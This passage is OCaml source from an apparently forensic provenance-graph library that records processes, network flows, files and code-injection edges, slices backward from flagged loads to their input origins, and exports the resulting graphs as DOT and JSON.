             src = proc_ord t p.Faros_os.Process.pid;
             dst = fnode;
             kind = Graph.Flagged;
             tick = flag.f_tick;
             bytes = 0;
           })
    | None -> ());
    (* oldest tag first, so origin nodes intern before intermediaries *)
    List.iter
      (fun tag ->
        match tag_source t ~tick:flag.f_tick tag with
        | Some src when src <> fnode ->
          emit t
            (Delta.D_edge
               {
                 src;
                 dst = fnode;
                 kind = Graph.Tainted_by;
                 tick = flag.f_tick;
                 bytes = 0;
               })
        | _ -> ())
      (List.rev (Faros_dift.Provenance.to_list flag.f_instr_prov))
  end

let plugin t ~kernel ~(faros : Core.Faros_plugin.t) =
  t.b_kernel <- Some kernel;
  t.b_store <- Some faros.engine.store;
  t.b_profile <- faros.profile;
  Core.Detector.add_flag_observer faros.detector (on_flag t);
  Faros_replay.Plugin.make ~on_os_event:(on_os_event t) "attack-graph"

let enrich_walk t (faros : Core.Faros_plugin.t) =
  if t.b_kernel = None then t.b_kernel <- Some faros.kernel;
  if t.b_store = None then t.b_store <- Some faros.engine.store;
  let kernel = kernel_exn t in
  let tick = Faros_os.Kernel.tick kernel in
  List.iter
    (fun (p : Faros_os.Process.t) ->
      let regions = Core.Prov_query.regions_of_process faros p in
      let pn = proc_ord t p.pid in
      let tainted =
        List.fold_left (fun acc (r : Core.Prov_query.region_taint) -> acc + r.rt_len) 0 regions
      in
      let netflow =
        List.fold_left
          (fun acc (r : Core.Prov_query.region_taint) ->
            if List.mem Faros_dift.Tag.Ty_netflow r.rt_types then acc + r.rt_len
            else acc)
          0 regions
      in
      emit t (Delta.D_taint { ord = pn; tainted; netflow });
      List.iter
        (fun (r : Core.Prov_query.region_taint) ->
          let rn =
            region_ord t ~pid:r.rt_pid ~process:r.rt_process ~vaddr:r.rt_vaddr
              ~len:r.rt_len
              ~types:(List.map Core.Prov_query.ty_name r.rt_types)
          in
          List.iter
            (fun tag ->
              match tag_source t ~tick tag with
              | Some src when src <> rn ->
                emit t
                  (Delta.D_edge
                     { src; dst = rn; kind = Graph.Tainted_by; tick; bytes = 0 })
              | _ -> ())
            (List.rev (Faros_dift.Provenance.to_list r.rt_sample)))
        regions;
      (* an exited process's enrichment is final the moment its walk
         ends: quiesce its regions so the live set stays O(live procs) *)
      if Hashtbl.mem t.b_exited p.pid then
        List.iter
          (fun (r : Core.Prov_query.region_taint) ->
            match Hashtbl.find_opt t.b_ords (Graph.K_region (r.rt_pid, r.rt_vaddr)) with
            | Some o -> retire t o
            | None -> ())
          regions)
    (Faros_os.Kstate.processes kernel)

(* Offline enrichment is a whole shadow-memory walk: one top-level-ish
   [graph.enrich] span (it runs after the replay, outside [kernel.*]). *)
let enrich t (faros : Core.Faros_plugin.t) =
  if Faros_obs.Profile.enabled t.b_profile then
    Faros_obs.Profile.with_span t.b_profile "graph.enrich" (fun () ->
        enrich_walk t faros)
  else enrich_walk t faros
