(** The whole-system provenance graph: the forensic artifact behind Fig. 4.

    Nodes are the system objects FAROS's tags name — network flows,
    processes, files, loaded modules (plus the kernel export directory),
    tainted memory regions and flag sites.  Edges are tick-stamped
    interactions pointing in the direction data/influence moved: a flow
    {e received}-into a process, a parent {e spawned} a child, an injector
    {e injected-into} its victim, a source {e tainted} a region or a flag.

    Nodes intern by identity key and are numbered in first-encounter
    order; the graph is built from a deterministic replay, so ids — and
    every export derived from them — are deterministic.  Repeated
    interactions between one pair collapse into a single edge carrying a
    count, a byte total and a [first..last] tick range. *)

type flow = Faros_os.Types.flow

type proc_info = {
  p_pid : int;
  mutable p_name : string;
  mutable p_exit_code : int option;
  mutable p_tainted_bytes : int;  (** filled in by offline enrichment *)
  mutable p_netflow_bytes : int;
}

type file_info = {
  fi_name : string;
  mutable fi_version_lo : int;  (** versions seen, as a range — the fs
      bumps the version per open, so one node covers all of them *)
  mutable fi_version_hi : int;
}

type module_info = { m_pid : int; m_image : string; m_base : int }

type region_info = {
  r_pid : int;
  r_process : string;
  r_vaddr : int;
  r_len : int;
  r_types : string list;  (** tag types present, rendered *)
}

type flag_info = { fl_process : string; fl_pc : int; fl_tick : int }

type node_kind =
  | Flow of flow
  | Process of proc_info
  | File of file_info
  | Module of module_info
  | Region of region_info
  | Flag_site of flag_info

type node = { n_id : int; n_kind : node_kind }

type edge_kind =
  | Spawned
  | Suspended
  | Resumed
  | Connected
  | Received
  | Sent
  | Read
  | Wrote
  | Mapped
  | Injected_into
  | Tainted_by
  | Flagged

type edge = {
  e_src : int;
  e_dst : int;
  e_kind : edge_kind;
  e_tick : int;  (** first occurrence *)
  mutable e_last_tick : int;
  mutable e_count : int;
  mutable e_bytes : int;
}

(** Node identity keys (see the interning rules above). *)
type key =
  | K_flow of flow
  | K_proc of int
  | K_file of string
  | K_module of int * string
  | K_region of int * int
  | K_flag of string * int

type t

val create : ?metrics:Faros_obs.Metrics.t -> sample:string -> unit -> t
(** An empty graph for one sample.  With [metrics], the [graph.nodes] and
    [graph.edges] counters are registered and bumped as the graph grows. *)

val sample : t -> string
val node_count : t -> int
val edge_count : t -> int

val nodes : t -> node list
(** All nodes, id (first-encounter) order. *)

val edges : t -> edge list
(** All edges, insertion order. *)

val find : t -> key -> node option

(** {2 Interning constructors} — idempotent per key. *)

val flow_node : t -> flow -> node
val process_node : t -> pid:int -> name:string -> node
val file_node : t -> name:string -> version:int -> node
val module_node : t -> pid:int -> image:string -> base:int -> node

val region_node :
  t -> pid:int -> process:string -> vaddr:int -> len:int -> types:string list -> node

val flag_site_node : t -> process:string -> pc:int -> tick:int -> node

val set_exit_code : node -> int -> unit
val set_process_taint : node -> tainted_bytes:int -> netflow_bytes:int -> unit

val add_edge :
  t -> ?bytes:int -> src:node -> dst:node -> kind:edge_kind -> tick:int -> unit -> unit
(** Record one interaction.  An edge with the same (src, dst, kind)
    already present absorbs it: count + 1, bytes accumulated, last tick
    advanced. *)

val record_edge :
  t ->
  src:int ->
  dst:int ->
  kind:edge_kind ->
  tick:int ->
  last_tick:int ->
  count:int ->
  bytes:int ->
  unit
(** Raw edge insertion for reconstruction from segment rows: the caller
    supplies already-coalesced attributes.  A pre-existing (src, dst,
    kind) edge absorbs the row (ticks widen, counts/bytes accumulate). *)

val flag_nodes : t -> node list
(** The flag-site nodes, id order — the slice entry points. *)

val kind_name : node -> string
val edge_kind_name : edge_kind -> string

val node_label : node -> string
(** Short human label ("inject_client.exe (pid 100)", "NetFlow a:p -> b:q",
    "flag 0x10000042 in notepad.exe") used by every renderer. *)

val restrict : t -> keep:(node -> bool) -> t
(** The subgraph induced by [keep], densely renumbered in the original id
    order (a view for export: node payloads are shared). *)

val in_edges : t -> edge list array
(** Per-node incoming adjacency ([arr.(i)] = edges into node [i],
    insertion order), derived on demand. *)

val out_edges : t -> edge list array
