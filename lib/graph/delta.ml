(* The typed construction stream behind every graph consumer.

   The online builder no longer mutates one resident graph: it narrates
   construction as a stream of deltas — node first-encounters (with the
   builder-assigned ordinal and a run-independent stable identity),
   attribute refinements, uncoalesced edge observations, and retirement
   hints for subgraphs that have gone quiescent.  Consumers choose their
   memory/fidelity trade-off:

   - {!resident} applies the stream to a {!Graph.t}, reproducing exactly
     the graph the pre-stream builder used to mutate in place (nodes in
     ordinal order, edges coalesced by (src, dst, kind));
   - the segment writer in [lib/query] keeps only the live subgraph
     resident and spills retired rows to JSONL segments.

   Ordinals are assigned at first encounter and never reused, so a graph
   reconstructed from segments renumbers back to the resident ids and the
   two exports compare byte-for-byte. *)

(* Immutable node payload at first encounter; consumers copy what they
   keep, so no mutable state is ever shared across consumers. *)
type seed =
  | S_flow of Graph.flow
  | S_proc of { pid : int; name : string }
  | S_file of { name : string; version : int }
  | S_module of { pid : int; image : string; base : int }
  | S_region of {
      pid : int;
      process : string;
      vaddr : int;
      len : int;
      types : string list;
    }
  | S_flag of { process : string; pc : int; tick : int }

type t =
  | D_node of { ord : int; ident : string; seed : seed }
      (* first encounter of an entity: ordinal = resident node id *)
  | D_name of { ord : int; name : string }
      (* a process referenced before its name was known resolves it *)
  | D_version of { ord : int; version : int }
      (* a file observed at a version outside its known range *)
  | D_exit of { ord : int; code : int }
  | D_taint of { ord : int; tainted : int; netflow : int }
      (* offline enrichment: per-process taint totals *)
  | D_edge of { src : int; dst : int; kind : Graph.edge_kind; tick : int; bytes : int }
      (* one interaction, uncoalesced; consumers merge by (src, dst, kind) *)
  | D_retire of { ord : int }
      (* quiescence hint: the entity can no longer originate new state
         (closed flow, exited process); bounded-memory consumers may
         spill it.  Re-references later (a flag's provenance naming a
         retired flow) reuse the same ordinal via attribute deltas. *)

let seed_kind = function
  | S_flow _ -> "flow"
  | S_proc _ -> "process"
  | S_file _ -> "file"
  | S_module _ -> "module"
  | S_region _ -> "region"
  | S_flag _ -> "flag"

(* -- the resident consumer ------------------------------------------------ *)

type resident = {
  r_graph : Graph.t;
  r_by_ord : (int, Graph.node) Hashtbl.t;
}

let resident graph = { r_graph = graph; r_by_ord = Hashtbl.create 256 }

let node_exn r ord =
  match Hashtbl.find_opt r.r_by_ord ord with
  | Some n -> n
  | None -> invalid_arg (Printf.sprintf "Delta.apply: unknown ordinal %d" ord)

(* Applying the stream reproduces the pre-stream in-place construction:
   D_node interns (ordinals arrive in first-encounter order, so resident
   ids equal ordinals), refinements mutate the interned payloads exactly
   as the old constructors did, edges coalesce through
   {!Graph.add_edge}. *)
let apply r delta =
  let g = r.r_graph in
  match delta with
  | D_node { ord; seed; _ } ->
    let n =
      match seed with
      | S_flow f -> Graph.flow_node g f
      | S_proc { pid; name } -> Graph.process_node g ~pid ~name
      | S_file { name; version } -> Graph.file_node g ~name ~version
      | S_module { pid; image; base } -> Graph.module_node g ~pid ~image ~base
      | S_region { pid; process; vaddr; len; types } ->
        Graph.region_node g ~pid ~process ~vaddr ~len ~types
      | S_flag { process; pc; tick } -> Graph.flag_site_node g ~process ~pc ~tick
    in
    Hashtbl.replace r.r_by_ord ord n
  | D_name { ord; name } -> (
    match (node_exn r ord).n_kind with
    | Graph.Process p when p.p_name = "?" && name <> "?" -> p.p_name <- name
    | _ -> ())
  | D_version { ord; version } -> (
    match (node_exn r ord).n_kind with
    | Graph.File fi ->
      if version < fi.fi_version_lo then fi.fi_version_lo <- version;
      if version > fi.fi_version_hi then fi.fi_version_hi <- version
    | _ -> ())
  | D_exit { ord; code } -> Graph.set_exit_code (node_exn r ord) code
  | D_taint { ord; tainted; netflow } ->
    Graph.set_process_taint (node_exn r ord) ~tainted_bytes:tainted
      ~netflow_bytes:netflow
  | D_edge { src; dst; kind; tick; bytes } ->
    Graph.add_edge g ~bytes ~src:(node_exn r src) ~dst:(node_exn r dst) ~kind
      ~tick ()
  | D_retire _ -> ()
