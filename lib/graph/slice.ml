(* Whodunit slicing: from a flagged load back to the input that caused it.

   A slice answers Fig. 4's question — "show me the chain from the wire
   to the injected code" — as the minimal subgraph connecting the input
   origins to one flag site.  Construction is two temporal sweeps:

   1. Backward: walk edges in reverse from the flag site, carrying a tick
      bound; an edge is admissible only if it happened no later than the
      bound at its destination (an interaction after the flag cannot have
      caused it).  This collects everything that could have influenced
      the flag.
   2. Origin selection + forward: inside that backward cone, the origins
      are the network flows — preferring the flows the flag's own taint
      provenance names (a server under load has hundreds of flows in the
      cone through accept/spawn lineage; only the guilty one tainted the
      flag) — or, for file-borne payloads like process hollowing where no
      flow exists, the source files (files nobody in the cone wrote: they
      carried their payload in from outside).  A
      forward reachability sweep from the origins intersects the cone, so
      nodes that influenced the flag but are not on an origin path (e.g.
      the victim's own image mapping) drop out.

   The rendered chain per origin is the shortest event path origin ->
   flag, preferring concrete interactions (received, injected-into) over
   the tainted-by provenance shortcuts, which reproduces Table II's
   NetFlow -> inject_client.exe -> notepad.exe chains as graph paths. *)

type t = {
  sl_flag : Graph.node;
  sl_nodes : int list;  (* ascending node ids *)
  sl_edges : Graph.edge list;  (* induced subgraph, insertion order *)
  sl_origins : Graph.node list;  (* id order *)
  sl_chains : Graph.node list list;  (* one per origin: origin .. flag *)
}

let is_flow (n : Graph.node) =
  match n.n_kind with Graph.Flow _ -> true | _ -> false

let is_file (n : Graph.node) =
  match n.n_kind with Graph.File _ -> true | _ -> false

(* Shortest path src -> dst over the given adjacency, neighbors in edge
   order (deterministic).  Returns the node-id path, or None. *)
let bfs_path ~outs ~admit ~src ~dst =
  if src = dst then Some [ src ]
  else begin
    let parent = Hashtbl.create 16 in
    let q = Queue.create () in
    Hashtbl.replace parent src (-1);
    Queue.add src q;
    let found = ref false in
    while (not !found) && not (Queue.is_empty q) do
      let v = Queue.pop q in
      List.iter
        (fun (e : Graph.edge) ->
          if admit e && not (Hashtbl.mem parent e.e_dst) then begin
            Hashtbl.replace parent e.e_dst v;
            if e.e_dst = dst then found := true else Queue.add e.e_dst q
          end)
        outs.(v)
    done;
    if not !found then None
    else begin
      let rec walk v acc =
        if v = src then v :: acc else walk (Hashtbl.find parent v) (v :: acc)
      in
      Some (walk dst [])
    end
  end

let whodunit g (flag : Graph.node) =
  let flag_tick =
    match flag.n_kind with
    | Graph.Flag_site fl -> fl.fl_tick
    | _ -> invalid_arg "Slice.whodunit: not a flag-site node"
  in
  let n = Graph.node_count g in
  let ins = Graph.in_edges g and outs = Graph.out_edges g in
  (* 1. backward temporal cone *)
  let bound = Array.make (max 1 n) min_int in
  bound.(flag.n_id) <- flag_tick;
  let q = Queue.create () in
  Queue.add flag.n_id q;
  while not (Queue.is_empty q) do
    let v = Queue.pop q in
    let b = bound.(v) in
    List.iter
      (fun (e : Graph.edge) ->
        if e.e_tick <= b then begin
          (* cross at the latest occurrence that is still admissible *)
          let cand = if e.e_last_tick <= b then e.e_last_tick else e.e_tick in
          if cand > bound.(e.e_src) then begin
            bound.(e.e_src) <- cand;
            Queue.add e.e_src q
          end
        end)
      ins.(v)
  done;
  let in_cone id = bound.(id) > min_int in
  (* 2. origins: flows, else source files *)
  let cone_nodes = List.filter (fun (nd : Graph.node) -> in_cone nd.n_id) (Graph.nodes g) in
  let flows = List.filter is_flow cone_nodes in
  (* Data-grounded refinement: when the detector recorded taint provenance
     for this flag, the flows that actually tainted it are the origins.
     Flows reaching the flag only through process lineage — a server that
     accepted hundreds of connections and then spawned the flagging
     worker — drop out; without provenance the structural cone stands. *)
  let tainting =
    List.filter
      (fun (nd : Graph.node) ->
        List.exists
          (fun (e : Graph.edge) ->
            e.e_kind = Graph.Tainted_by && e.e_src = nd.n_id)
          ins.(flag.n_id))
      flows
  in
  let flows = if tainting <> [] then tainting else flows in
  let origins =
    if flows <> [] then flows
    else
      List.filter
        (fun (nd : Graph.node) ->
          is_file nd
          && not
               (List.exists
                  (fun (e : Graph.edge) ->
                    e.e_kind = Graph.Wrote && in_cone e.e_src)
                  ins.(nd.n_id)))
        cone_nodes
  in
  (* 3. forward sweep from the origins, inside the cone *)
  let in_slice = Array.make (max 1 n) false in
  in_slice.(flag.n_id) <- true;
  let q = Queue.create () in
  List.iter
    (fun (o : Graph.node) ->
      if not in_slice.(o.n_id) then begin
        in_slice.(o.n_id) <- true;
        Queue.add o.n_id q
      end)
    origins;
  while not (Queue.is_empty q) do
    let v = Queue.pop q in
    List.iter
      (fun (e : Graph.edge) ->
        if in_cone e.e_dst && e.e_tick <= flag_tick && not in_slice.(e.e_dst)
        then begin
          in_slice.(e.e_dst) <- true;
          Queue.add e.e_dst q
        end)
      outs.(v)
  done;
  let sl_nodes =
    List.filter_map
      (fun (nd : Graph.node) -> if in_slice.(nd.n_id) then Some nd.n_id else None)
      (Graph.nodes g)
  in
  let sl_edges =
    List.filter
      (fun (e : Graph.edge) ->
        in_slice.(e.e_src) && in_slice.(e.e_dst) && e.e_tick <= flag_tick)
      (Graph.edges g)
  in
  (* 4. one rendered chain per origin: prefer event edges, fall back to
     the tainted-by shortcuts if the event path is incomplete *)
  let by_id = Array.of_list (Graph.nodes g) in
  let admit_slice (e : Graph.edge) =
    in_slice.(e.e_src) && in_slice.(e.e_dst) && e.e_tick <= flag_tick
  in
  let chains =
    List.filter_map
      (fun (o : Graph.node) ->
        let path =
          match
            bfs_path ~outs
              ~admit:(fun e -> admit_slice e && e.e_kind <> Graph.Tainted_by)
              ~src:o.n_id ~dst:flag.n_id
          with
          | Some p -> Some p
          | None -> bfs_path ~outs ~admit:admit_slice ~src:o.n_id ~dst:flag.n_id
        in
        Option.map (List.map (fun id -> by_id.(id))) path)
      origins
  in
  { sl_flag = flag; sl_nodes; sl_edges; sl_origins = origins; sl_chains = chains }

let slices g = List.map (whodunit g) (Graph.flag_nodes g)

let has_netflow_origin t = List.exists is_flow t.sl_origins

let forward g (start : Graph.node) =
  let outs = Graph.out_edges g in
  let seen = Array.make (max 1 (Graph.node_count g)) false in
  seen.(start.n_id) <- true;
  let q = Queue.create () in
  Queue.add start.n_id q;
  while not (Queue.is_empty q) do
    let v = Queue.pop q in
    List.iter
      (fun (e : Graph.edge) ->
        if not seen.(e.e_dst) then begin
          seen.(e.e_dst) <- true;
          Queue.add e.e_dst q
        end)
      outs.(v)
  done;
  List.filter (fun (nd : Graph.node) -> seen.(nd.n_id)) (Graph.nodes g)

let render_chain chain =
  String.concat " -> " (List.map Graph.node_label chain)

let pp ppf t =
  Fmt.pf ppf "%s <- %d node(s), %d origin(s)@."
    (Graph.node_label t.sl_flag)
    (List.length t.sl_nodes)
    (List.length t.sl_origins);
  List.iter (fun chain -> Fmt.pf ppf "  %s@." (render_chain chain)) t.sl_chains
