(** The typed construction stream behind every graph consumer.

    The online builder ({!Build}) narrates graph construction as deltas:
    node first-encounters carrying a builder-assigned ordinal (the
    resident node id) and a run-independent stable identity string,
    attribute refinements, uncoalesced edge observations, and retirement
    hints for quiescent subgraphs.  {!resident}/{!apply} replay the
    stream into a {!Graph.t}, byte-identical to the pre-stream in-place
    construction; the segment writer in [lib/query] instead keeps only
    the live subgraph resident and spills retired rows to JSONL. *)

(** Immutable node payload at first encounter — consumers copy what they
    keep, so no mutable state is shared across consumers. *)
type seed =
  | S_flow of Graph.flow
  | S_proc of { pid : int; name : string }
  | S_file of { name : string; version : int }
  | S_module of { pid : int; image : string; base : int }
  | S_region of {
      pid : int;
      process : string;
      vaddr : int;
      len : int;
      types : string list;
    }
  | S_flag of { process : string; pc : int; tick : int }

type t =
  | D_node of { ord : int; ident : string; seed : seed }
  | D_name of { ord : int; name : string }
  | D_version of { ord : int; version : int }
  | D_exit of { ord : int; code : int }
  | D_taint of { ord : int; tainted : int; netflow : int }
  | D_edge of { src : int; dst : int; kind : Graph.edge_kind; tick : int; bytes : int }
  | D_retire of { ord : int }

val seed_kind : seed -> string
(** The {!Graph.kind_name} of the node a seed interns. *)

(** {2 The resident consumer} *)

type resident

val resident : Graph.t -> resident
(** A consumer applying the stream into [graph]. *)

val apply : resident -> t -> unit
(** Replay one delta.  Ordinals must arrive in first-encounter order
    (which the builder guarantees), so resident node ids equal ordinals
    and retirement hints are no-ops. *)
