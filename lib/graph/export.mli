(** Deterministic exporters: Graphviz DOT and JSON.

    Both walk nodes in id order and edges in insertion order; since ids
    come from a deterministic replay, a given sample always exports
    byte-identical output.  The JSON is well-formed under the
    {!Faros_obs.Json} checker (the [faros check-json] contract). *)

val to_dot : Graph.t -> string
(** The whole graph as a [digraph]: one [nK] statement per node (shape
    and color by kind), one edge statement per edge with a
    [kind xCOUNT BYTESB @TICK] label.  Injection edges are red. *)

val to_json : ?slices:Slice.t list -> Graph.t -> string
(** One [{"graph":{...}}] document: sample, counts, nodes with
    kind-specific fields, edges, and the given slices (flag id, origins,
    node ids, rendered chains). *)
