(** Whodunit slicing: from a flagged load back to the input that caused
    it, and forward reachability from any node.

    A slice is the minimal temporal subgraph connecting a flag site's
    input origins to the flag: a backward tick-bounded sweep collects
    everything that could have influenced the flagged load, then a
    forward sweep from the origins (network flows, or — for file-borne
    payloads like process hollowing — source files nobody in the cone
    wrote) intersects it.  See docs/graph.md for the exact semantics. *)

type t = {
  sl_flag : Graph.node;  (** the flag site the slice explains *)
  sl_nodes : int list;  (** slice node ids, ascending *)
  sl_edges : Graph.edge list;  (** induced subgraph, insertion order *)
  sl_origins : Graph.node list;  (** input origins, id order *)
  sl_chains : Graph.node list list;
      (** one rendered chain per origin, origin first, flag last — the
          graph form of Table II's provenance lines *)
}

val whodunit : Graph.t -> Graph.node -> t
(** Slice backward from one flag-site node.  Raises [Invalid_argument]
    on any other node kind. *)

val slices : Graph.t -> t list
(** One slice per flag site, id order; empty when nothing was flagged. *)

val has_netflow_origin : t -> bool
(** Did the slice reach a network-flow origin?  True for every
    network-borne attack in the corpus. *)

val forward : Graph.t -> Graph.node -> Graph.node list
(** Forward reachability ("what did this flow touch"): every node
    reachable from [start], id order, [start] included. *)

val render_chain : Graph.node list -> string
(** Node labels joined with [" -> "], Table II style. *)

val pp : Format.formatter -> t -> unit
(** Human rendering: the flag line plus one indented chain per origin. *)
