(* Deterministic exporters: Graphviz DOT for eyeballs, JSON for tools.

   Both walk nodes in id order and edges in insertion order, so a given
   replay always produces byte-identical output (pinned by the cram
   transcript and the campaign -j1 / -j4 fingerprint test). *)

let dot_escape s =
  let buf = Buffer.create (String.length s) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let node_attrs (n : Graph.node) =
  match n.n_kind with
  | Graph.Flow _ -> "shape=ellipse, style=filled, fillcolor=lightblue"
  | Graph.Process _ -> "shape=box"
  | Graph.File _ -> "shape=note, style=filled, fillcolor=lightyellow"
  | Graph.Module _ -> "shape=component, style=filled, fillcolor=lightgrey"
  | Graph.Region _ -> "shape=box3d, style=dashed"
  | Graph.Flag_site _ -> "shape=octagon, style=filled, fillcolor=salmon"

let edge_attrs (e : Graph.edge) =
  match e.e_kind with
  | Graph.Injected_into -> ", color=red, penwidth=2"
  | Graph.Flagged -> ", color=red"
  | Graph.Tainted_by -> ", style=dotted"
  | _ -> ""

let edge_label (e : Graph.edge) =
  let b = Buffer.create 24 in
  Buffer.add_string b (Graph.edge_kind_name e.e_kind);
  if e.e_count > 1 then Buffer.add_string b (Printf.sprintf " x%d" e.e_count);
  if e.e_bytes > 0 then Buffer.add_string b (Printf.sprintf " %dB" e.e_bytes);
  Buffer.add_string b (Printf.sprintf " @%d" e.e_tick);
  Buffer.contents b

let to_dot g =
  let buf = Buffer.create 1024 in
  Printf.bprintf buf "digraph \"%s\" {\n" (dot_escape (Graph.sample g));
  Buffer.add_string buf "  rankdir=LR;\n";
  Buffer.add_string buf "  node [fontname=\"sans\", fontsize=10];\n";
  Buffer.add_string buf "  edge [fontname=\"sans\", fontsize=9];\n";
  List.iter
    (fun (n : Graph.node) ->
      Printf.bprintf buf "  n%d [label=\"%s\", %s];\n" n.n_id
        (dot_escape (Graph.node_label n))
        (node_attrs n))
    (Graph.nodes g);
  List.iter
    (fun (e : Graph.edge) ->
      Printf.bprintf buf "  n%d -> n%d [label=\"%s\"%s];\n" e.e_src e.e_dst
        (dot_escape (edge_label e))
        (edge_attrs e))
    (Graph.edges g);
  Buffer.add_string buf "}\n";
  Buffer.contents buf

(* -- JSON ----------------------------------------------------------------- *)

let esc = Faros_obs.Json.escape

let node_json (n : Graph.node) =
  let base =
    Printf.sprintf {|"id":%d,"kind":"%s","label":"%s"|} n.n_id (Graph.kind_name n)
      (esc (Graph.node_label n))
  in
  let extra =
    match n.n_kind with
    | Graph.Flow f ->
      Printf.sprintf {|,"src":"%s","src_port":%d,"dst":"%s","dst_port":%d|}
        (esc (Faros_os.Types.Ip.to_string f.src_ip))
        f.src_port
        (esc (Faros_os.Types.Ip.to_string f.dst_ip))
        f.dst_port
    | Graph.Process p ->
      Printf.sprintf {|,"pid":%d,"tainted_bytes":%d,"netflow_bytes":%d%s|}
        p.p_pid p.p_tainted_bytes p.p_netflow_bytes
        (match p.p_exit_code with
        | Some c -> Printf.sprintf {|,"exit_code":%d|} c
        | None -> "")
    | Graph.File fi ->
      Printf.sprintf {|,"version_lo":%d,"version_hi":%d|} fi.fi_version_lo
        fi.fi_version_hi
    | Graph.Module m -> Printf.sprintf {|,"pid":%d,"base":%d|} m.m_pid m.m_base
    | Graph.Region r ->
      Printf.sprintf {|,"pid":%d,"vaddr":%d,"len":%d,"types":[%s]|} r.r_pid
        r.r_vaddr r.r_len
        (String.concat ","
           (List.map (fun ty -> Printf.sprintf {|"%s"|} (esc ty)) r.r_types))
    | Graph.Flag_site fl ->
      Printf.sprintf {|,"pc":%d,"tick":%d,"process":"%s"|} fl.fl_pc fl.fl_tick
        (esc fl.fl_process)
  in
  "{" ^ base ^ extra ^ "}"

let edge_json (e : Graph.edge) =
  Printf.sprintf
    {|{"src":%d,"dst":%d,"kind":"%s","tick":%d,"last_tick":%d,"count":%d,"bytes":%d}|}
    e.e_src e.e_dst
    (Graph.edge_kind_name e.e_kind)
    e.e_tick e.e_last_tick e.e_count e.e_bytes

let slice_json (s : Slice.t) =
  Printf.sprintf
    {|{"flag":%d,"flag_label":"%s","netflow_origin":%b,"origins":[%s],"nodes":[%s],"chains":[%s]}|}
    s.sl_flag.n_id
    (esc (Graph.node_label s.sl_flag))
    (Slice.has_netflow_origin s)
    (String.concat ","
       (List.map (fun (n : Graph.node) -> string_of_int n.n_id) s.sl_origins))
    (String.concat "," (List.map string_of_int s.sl_nodes))
    (String.concat ","
       (List.map
          (fun chain -> Printf.sprintf {|"%s"|} (esc (Slice.render_chain chain)))
          s.sl_chains))

let to_json ?(slices = []) g =
  Printf.sprintf
    {|{"graph":{"sample":"%s","node_count":%d,"edge_count":%d,"nodes":[%s],"edges":[%s],"slices":[%s]}}|}
    (esc (Graph.sample g))
    (Graph.node_count g) (Graph.edge_count g)
    (String.concat "," (List.map node_json (Graph.nodes g)))
    (String.concat "," (List.map edge_json (Graph.edges g)))
    (String.concat "," (List.map slice_json slices))
