(* The whole-system provenance graph: the forensic artifact behind Fig. 4.

   Nodes are the system objects FAROS's tags name (flows, processes,
   files, modules, tainted regions, flag sites); edges are tick-stamped
   interactions pointing in the direction data/influence moved.  Nodes are
   interned by identity key and numbered in first-encounter order; since
   the graph is built from a deterministic replay, ids — and therefore
   every export — are deterministic too.

   Repeated interactions between the same pair (the same flow delivering
   ten chunks to the same process) collapse into one edge carrying a
   count, a byte total and a [first..last] tick range, which is what keeps
   the graph analyst-sized. *)

type flow = Faros_os.Types.flow

type proc_info = {
  p_pid : int;
  mutable p_name : string;
  mutable p_exit_code : int option;
  mutable p_tainted_bytes : int;
  mutable p_netflow_bytes : int;
}

type file_info = {
  fi_name : string;
  mutable fi_version_lo : int;
  mutable fi_version_hi : int;
}

type module_info = { m_pid : int; m_image : string; m_base : int }

type region_info = {
  r_pid : int;
  r_process : string;
  r_vaddr : int;
  r_len : int;
  r_types : string list;
}

type flag_info = { fl_process : string; fl_pc : int; fl_tick : int }

type node_kind =
  | Flow of flow
  | Process of proc_info
  | File of file_info
  | Module of module_info
  | Region of region_info
  | Flag_site of flag_info

type node = { n_id : int; n_kind : node_kind }

type edge_kind =
  | Spawned
  | Suspended
  | Resumed
  | Connected
  | Received
  | Sent
  | Read
  | Wrote
  | Mapped
  | Injected_into
  | Tainted_by
  | Flagged

type edge = {
  e_src : int;
  e_dst : int;
  e_kind : edge_kind;
  e_tick : int;  (* first occurrence *)
  mutable e_last_tick : int;
  mutable e_count : int;
  mutable e_bytes : int;
}

(* The identity under which a node interns: one node per flow 4-tuple,
   per pid, per file name (versions collapse into a range attribute —
   the filesystem bumps the version on every open, so keying on it would
   sever write->read chains), per (pid, image), per (pid, region start),
   and per (process, pc) flag site — the same key {!Core.Report}
   deduplicates sites by. *)
type key =
  | K_flow of flow
  | K_proc of int
  | K_file of string
  | K_module of int * string
  | K_region of int * int
  | K_flag of string * int

type t = {
  g_sample : string;
  mutable rev_nodes : node list;  (* newest first *)
  mutable n_nodes : int;
  nodes_by_key : (key, node) Hashtbl.t;
  mutable rev_edges : edge list;  (* newest first *)
  mutable n_edges : int;
  edges_by_key : (int * int * edge_kind, edge) Hashtbl.t;
  c_nodes : Faros_obs.Metrics.counter option;
  c_edges : Faros_obs.Metrics.counter option;
}

let create ?metrics ~sample () =
  let reg name =
    Option.map (fun m -> Faros_obs.Metrics.counter m name) metrics
  in
  {
    g_sample = sample;
    rev_nodes = [];
    n_nodes = 0;
    nodes_by_key = Hashtbl.create 64;
    rev_edges = [];
    n_edges = 0;
    edges_by_key = Hashtbl.create 64;
    c_nodes = reg "graph.nodes";
    c_edges = reg "graph.edges";
  }

let sample t = t.g_sample
let node_count t = t.n_nodes
let edge_count t = t.n_edges
let nodes t = List.rev t.rev_nodes
let edges t = List.rev t.rev_edges
let find t key = Hashtbl.find_opt t.nodes_by_key key

let intern t key mk =
  match Hashtbl.find_opt t.nodes_by_key key with
  | Some n -> n
  | None ->
    let n = { n_id = t.n_nodes; n_kind = mk () } in
    t.n_nodes <- t.n_nodes + 1;
    t.rev_nodes <- n :: t.rev_nodes;
    Hashtbl.replace t.nodes_by_key key n;
    Option.iter Faros_obs.Metrics.incr t.c_nodes;
    n

let flow_node t flow = intern t (K_flow flow) (fun () -> Flow flow)

let process_node t ~pid ~name =
  let n =
    intern t (K_proc pid) (fun () ->
        Process
          {
            p_pid = pid;
            p_name = name;
            p_exit_code = None;
            p_tainted_bytes = 0;
            p_netflow_bytes = 0;
          })
  in
  (* A pid referenced before its Proc_created (or resolved as "?") picks
     up the real name once it is known. *)
  (match n.n_kind with
  | Process p when p.p_name = "?" && name <> "?" -> p.p_name <- name
  | _ -> ());
  n

let file_node t ~name ~version =
  let n =
    intern t (K_file name) (fun () ->
        File { fi_name = name; fi_version_lo = version; fi_version_hi = version })
  in
  (match n.n_kind with
